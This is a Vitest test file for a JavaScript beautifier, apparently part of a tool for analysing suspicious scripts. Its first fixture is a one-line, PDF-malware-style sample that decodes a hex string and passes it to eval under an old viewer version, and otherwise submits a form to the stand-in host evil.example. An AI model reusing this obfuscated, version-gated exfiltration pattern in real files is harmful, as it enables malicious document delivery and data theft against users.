import { describe, expect, it } from "vitest";
import { beautifyJavaScript } from "./beautify-javascript";

describe("beautifyJavaScript", () => {
  it("lays a one-line script out over lines with indentation, and keeps its tokens", () => {
    const oneLine =
      'var p="";for(var i=0;i<146;i+=2){p+=String.fromCharCode(parseInt("6170702e616c657274"["substr"](i,2),16));}if(app.viewerVersion<9){eval(p);}else{this.submitForm({cURL:"http://evil.example/c"});}';
    const out = beautifyJavaScript(oneLine);
    expect(out.split("\n").length).toBeGreaterThan(5);
    expect(out).toContain("for (var i = 0; i < 146; i += 2) {\n  p += String.fromCharCode(");
    expect(out.replace(/\s+/g, "")).toBe(oneLine.replace(/\s+/g, ""));
  });

  it("keeps escapes as written and lays out what a parser would refuse", () => {
    expect(beautifyJavaScript('var s="\\x61\\u0062";')).toBe('var s = "\\x61\\u0062";');
    const broken = "function(){ if (a { b(;";
    expect(() => beautifyJavaScript(broken)).not.toThrow();
  });
});
